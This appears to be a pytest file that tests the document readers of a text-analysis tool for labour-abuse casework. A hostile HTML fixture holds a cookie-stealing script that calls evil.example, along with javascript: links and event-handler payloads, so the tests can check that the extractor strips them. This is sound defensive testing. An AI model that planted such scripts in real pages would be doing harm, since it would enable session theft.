"""Tests of the format readers, through read_path / read_bytes as the CLI calls them."""

from __future__ import annotations

import io
from email.message import EmailMessage
from pathlib import Path

import pytest

from labourlens.errors import InputTooLarge, InvalidInput, NotFound
from labourlens.ingest import Document, read_bytes, read_path, read_stdin_bytes
from labourlens.ingest import html as html_module
from labourlens.settings import Settings

SETTINGS = Settings()


def one(docs: object) -> Document:
    """The single Document of an iterator."""
    items = list(docs)  # type: ignore[call-overload]
    assert len(items) == 1
    return items[0]


def make_pdf(pages: list[str], *, title: str | None = None, author: str | None = None) -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    if title:
        pdf.set_title(title)
    if author:
        pdf.set_author(author)
    pdf.set_font("Helvetica", size=11)
    for text in pages:
        pdf.add_page()
        pdf.multi_cell(0, 6, text)
    return bytes(pdf.output())


def make_blank_pdf(pages: int) -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    for _ in range(pages):
        pdf.add_page()
        pdf.rect(20, 20, 100, 60)  # a drawing, no text: what a scan looks like to a text layer
    return bytes(pdf.output())


def make_docx() -> bytes:
    import docx

    document = docx.Document()
    document.core_properties.title = "Site visit notes"
    document.core_properties.author = "R. Okafor"
    document.add_heading("Visit to the brick kiln", level=1)
    document.add_paragraph("The families owed the kiln owner an advance they could not repay.")
    document.add_paragraph("")
    table = document.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Hours"
    table.cell(0, 1).text = "Fourteen a day, every day."
    merged = table.cell(1, 0).merge(table.cell(1, 1))
    merged.text = "Children worked beside their parents."
    document.add_paragraph("Nobody had a written contract.")
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


# -- txt / md -----------------------------------------------------------------------------------


def test_ingest_read_txt_latin1_file(tmp_path: Path) -> None:
    path = tmp_path / "old.txt"
    text = "The café’s cook said: “no pay since March” — nobody left.\r\n"
    path.write_bytes(text.encode("cp1252"))
    doc = one(read_path(path, SETTINGS))
    assert doc.text == text.strip()
    assert doc.format == "txt"
    assert doc.source == str(path)
    assert doc.id is None
    assert doc.metadata["encoding"] == "cp1252"


def test_ingest_read_txt_normalises(tmp_path: Path) -> None:
    path = tmp_path / "a.txt"
    path.write_text("First  line\u00a0here.\n\n\n\nSecond\u200b paragraph.  \n", encoding="utf-8")
    assert one(read_path(path, SETTINGS)).text == "First line here.\n\nSecond paragraph."


def test_ingest_read_md_strips_markup(tmp_path: Path) -> None:
    path = tmp_path / "notes.md"
    path.write_text(
        "---\ntitle: Field notes\ndate: 2024-02-01\nauthor: K. Lim\ntags: [fishing]\n---\n"
        "# Boat crews\n\nThe crew were **kept at sea** for [eleven months](https://example.org/x).\n\n"
        "- no shore leave\n- pay held back\n",
        encoding="utf-8",
    )
    doc = one(read_path(path, SETTINGS))
    assert doc.format == "md"
    assert (
        doc.text
        == "Boat crews\n\nThe crew were kept at sea for eleven months.\n\n- no shore leave\n- pay held back"
    )
    assert (doc.title, doc.date, doc.author) == ("Field notes", "2024-02-01", "K. Lim")


# -- html ---------------------------------------------------------------------------------------

HOSTILE_HTML = """<!DOCTYPE html>
<html><head><title>Recruiters under scrutiny</title>
<meta name="author" content="Dana Whitfield">
<meta property="article:published_time" content="2024-05-17">
<script>var stolen = document.cookie; fetch("https://evil.example/?c=" + stolen);</script>
<style>body { background: url("javascript:alert('STYLE')") }</style>
</head>
<body onload="alert('BODYLOAD')">
<nav><a href="/">Home</a> | <a href="/news">News</a></nav>
<article>
<h1>Recruiters under scrutiny</h1>
<p>Recruits paid large fees to agents before they travelled, and arrived owing more than a year of wages.</p>
<p>Several said the agency kept their contracts and changed the terms after arrival.
<img src="x.png" onerror="alert('ONERROR')"></p>
<p>The full findings are in <a href="javascript:alert('JSLINK')">the report</a>.</p>
<script type="text/javascript">document.write("<p>INJECTED</p>");</script>
<noscript>Enable NOSCRIPT to continue.</noscript>
<!-- hidden COMMENT text -->
<svg><script>SVGSCRIPT()</script></svg>
<iframe srcdoc="<script>FRAMESCRIPT()</script>"></iframe>
</article>
<section class="comments"><p>Reader comment: first!</p></section>
</body></html>"""


def test_ingest_read_html_hostile_page_gives_clean_text() -> None:
    doc = one(read_bytes(HOSTILE_HTML.encode(), "page.html", SETTINGS))
    assert doc.format == "html"
    for bad in (
        "cookie",
        "evil",
        "alert",
        "STYLE",
        "BODYLOAD",
        "ONERROR",
        "JSLINK",
        "javascript",
        "INJECTED",
        "NOSCRIPT",
        "COMMENT",
        "SVGSCRIPT",
        "FRAMESCRIPT",
        "<",
    ):
        assert bad not in doc.text, bad
    assert "Recruits paid large fees to agents" in doc.text
    assert "The full findings are in the report." in doc.text
    # paragraphs stay separate
    assert "\n\nSeveral said the agency kept their contracts" in doc.text
    assert doc.title == "Recruiters under scrutiny"
    assert doc.author == "Dana Whitfield"
    assert doc.date == "2024-05-17"


def test_ingest_read_html_named_txt(tmp_path: Path) -> None:
    path = tmp_path / "saved.txt"
    path.write_text(HOSTILE_HTML, encoding="utf-8")
    doc = one(read_path(path, SETTINGS))
    assert doc.format == "html"
    assert "alert" not in doc.text


def test_ingest_read_html_legacy_charset() -> None:
    page = (
        '<html><head><meta charset="windows-1251"><title>Отчёт</title></head>'
        "<body><p>Рабочие жили в вагончиках у стройки и не получали зарплату.</p></body></html>"
    )
    doc = one(read_bytes(page.encode("cp1251"), "ru.html", SETTINGS))
    assert "Рабочие жили в вагончиках" in doc.text
    assert doc.metadata["encoding"] == "cp1251"


def test_ingest_read_html_falls_back_to_lxml(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(html_module, "_trafilatura", lambda tree, structured: None)
    page = (
        b"<html><head><title>T</title><script>evil()</script></head>"
        b"<body><div>Alpha<br>beta</div><p>Gamma</p></body></html>"
    )
    doc = one(read_bytes(page, "f.html", SETTINGS))
    assert doc.text == "Alpha\nbeta\n\nGamma"
    assert doc.metadata["extractor"] == "lxml"
    assert doc.title == "T"


def test_ingest_read_html_without_text_is_invalid() -> None:
    page = b"<html><head><title>App</title><script>render()</script></head><body></body></html>"
    with pytest.raises(InvalidInput, match=r"'app\.html' is empty") as info:
        list(read_bytes(page, "app.html", SETTINGS))
    assert "JavaScript" in str(info.value)


# -- pdf ----------------------------------------------------------------------------------------


def test_ingest_read_pdf_pages(tmp_path: Path) -> None:
    path = tmp_path / "report.pdf"
    path.write_bytes(
        make_pdf(
            ["Page one: the men were moved between sites at night.", "Page two: their wages went unpaid."],
            title="Monitoring report",
            author="Labour Desk",
        )
    )
    doc = one(read_path(path, SETTINGS))
    assert doc.format == "pdf"
    assert (
        doc.text
        == "Page one: the men were moved between sites at night.\n\nPage two: their wages went unpaid."
    )
    assert doc.title == "Monitoring report"
    assert doc.author == "Labour Desk"
    assert doc.metadata["pages"] == 2
    assert doc.date is not None and len(doc.date) == 10


def test_ingest_read_pdf_named_txt(tmp_path: Path) -> None:
    path = tmp_path / "actually-a-pdf.txt"
    path.write_bytes(make_pdf(["A PDF wearing a text suffix."]))
    doc = one(read_path(path, SETTINGS))
    assert (doc.format, doc.text) == ("pdf", "A PDF wearing a text suffix.")


def test_ingest_read_pdf_not_a_pdf(tmp_path: Path) -> None:
    path = tmp_path / "x.pdf"
    path.write_text("This was saved with the wrong name.", encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"Can't read '.*x\.pdf': it is not a valid PDF \("):
        list(read_path(path, SETTINGS))


def test_ingest_read_pdf_corrupt(tmp_path: Path) -> None:
    path = tmp_path / "cut.pdf"
    path.write_bytes(make_pdf(["Truncated in transit."])[:200])
    with pytest.raises(InvalidInput, match=r"it is not a valid PDF \(.*PDFium"):
        list(read_path(path, SETTINGS))


def test_ingest_read_pdf_scanned(tmp_path: Path) -> None:
    path = tmp_path / "scan.pdf"
    path.write_bytes(make_blank_pdf(2))
    with pytest.raises(InvalidInput, match="no text layer") as info:
        list(read_path(path, SETTINGS))
    assert "ocrmypdf" in str(info.value)


def test_ingest_read_pdf_too_many_pages() -> None:
    data = make_pdf(["one", "two", "three"])
    with pytest.raises(InputTooLarge, match="has 3 pages, over the limit of 2 pages"):
        list(read_bytes(data, "long.pdf", Settings(max_pdf_pages=2)))


def test_ingest_read_pdf_some_pages_blank() -> None:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_font("Helvetica", size=11)
    pdf.add_page()
    pdf.cell(0, 10, "Only the first page has text.")
    pdf.add_page()
    doc = one(read_bytes(bytes(pdf.output()), "mixed.pdf", SETTINGS))
    assert doc.text == "Only the first page has text."
    assert doc.metadata["pages_without_text"] == [2]


# -- docx ---------------------------------------------------------------------------------------


def test_ingest_read_docx(tmp_path: Path) -> None:
    path = tmp_path / "notes.docx"
    path.write_bytes(make_docx())
    doc = one(read_path(path, SETTINGS))
    assert doc.format == "docx"
    assert doc.text == (
        "Visit to the brick kiln\n\n"
        "The families owed the kiln owner an advance they could not repay.\n\n"
        "Hours\n\nFourteen a day, every day.\n\n"
        "Children worked beside their parents.\n\n"
        "Nobody had a written contract."
    )
    assert (doc.title, doc.author) == ("Site visit notes", "R. Okafor")


def test_ingest_read_docx_broken(tmp_path: Path) -> None:
    path = tmp_path / "broken.docx"
    path.write_bytes(make_docx()[:300])
    with pytest.raises(InvalidInput, match=r"'.*broken\.docx': it is not a valid Word \.docx"):
        list(read_path(path, SETTINGS))


# -- eml ----------------------------------------------------------------------------------------


def _email(plain: str | None, html: str | None) -> bytes:
    msg = EmailMessage()
    msg["From"] = "Mira Santos <mira@example.org>"
    msg["To"] = "casework@example.org"
    msg["Subject"] = "Statement from the packing plant"
    msg["Date"] = "Wed, 06 Mar 2024 08:15:00 +0700"
    if plain is not None:
        msg.set_content(plain)
        if html is not None:
            msg.add_alternative(html, subtype="html")
    elif html is not None:
        msg.set_content(html, subtype="html")
    return bytes(msg)


def test_ingest_read_eml_prefers_plain(tmp_path: Path) -> None:
    path = tmp_path / "statement.eml"
    path.write_bytes(
        _email("They locked the gate at night.\n\nWe asked for our passports.", "<p>HTML version</p>")
    )
    doc = one(read_path(path, SETTINGS))
    assert doc.format == "eml"
    assert doc.text == "They locked the gate at night.\n\nWe asked for our passports."
    assert doc.title == "Statement from the packing plant"
    assert doc.author == "Mira Santos"
    assert doc.date == "2024-03-06"
    assert doc.metadata["from"] == "Mira Santos <mira@example.org>"
    assert doc.metadata["to"] == "casework@example.org"


def test_ingest_read_eml_html_body_through_html_reader() -> None:
    data = _email(None, "<html><body><p>Shifts ran past midnight.</p><script>steal()</script></body></html>")
    doc = one(read_bytes(data, "mail.txt", SETTINGS))
    assert doc.format == "eml"
    assert doc.text == "Shifts ran past midnight."
    assert doc.metadata["body"] == "text/html"


def test_ingest_read_eml_without_text_body() -> None:
    msg = EmailMessage()
    msg["From"] = "a@example.org"
    msg["Subject"] = "scan attached"
    msg.add_attachment(b"\x89PNG\r\n", maintype="image", subtype="png", filename="page1.png")
    with pytest.raises(InvalidInput, match=r"no text/plain or text/html body \(attachments: page1\.png\)"):
        list(read_bytes(bytes(msg), "scan.eml", SETTINGS))


# -- stdin, files ------------------------------------------------------------------------------


def test_ingest_read_stdin_bytes_sniffs() -> None:
    doc = one(read_stdin_bytes(b"Plain words from a pipe.", SETTINGS))
    assert (doc.source, doc.format, doc.text) == ("-", "txt", "Plain words from a pipe.")
    doc = one(read_stdin_bytes(make_pdf(["Piped PDF."]), SETTINGS))
    assert (doc.format, doc.text) == ("pdf", "Piped PDF.")


def test_ingest_read_path_missing_and_directory(tmp_path: Path) -> None:
    with pytest.raises(NotFound, match="no such file"):
        read_path(tmp_path / "nope.txt", SETTINGS)
    with pytest.raises(InvalidInput, match="is a directory"):
        read_path(tmp_path, SETTINGS)


@pytest.mark.parametrize("content", [b"", b"  \n\t \r\n", "\u200b\u00a0\n".encode()])
def test_ingest_read_empty(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "x.txt"
    path.write_bytes(content)
    with pytest.raises(InvalidInput, match=r"'.*x\.txt' is empty"):
        list(read_path(path, SETTINGS))


def test_ingest_read_binary_junk(tmp_path: Path) -> None:
    path = tmp_path / "x.bin"
    path.write_bytes(bytes((i * 131 + 7) % 256 for i in range(8192)))
    with pytest.raises(
        InvalidInput, match=r"'.*x\.bin' does not look like text or a supported document format \("
    ):
        list(read_path(path, SETTINGS))


def test_ingest_read_image(tmp_path: Path) -> None:
    path = tmp_path / "photo.txt"
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 100)
    with pytest.raises(InvalidInput, match="PNG image"):
        list(read_path(path, SETTINGS))
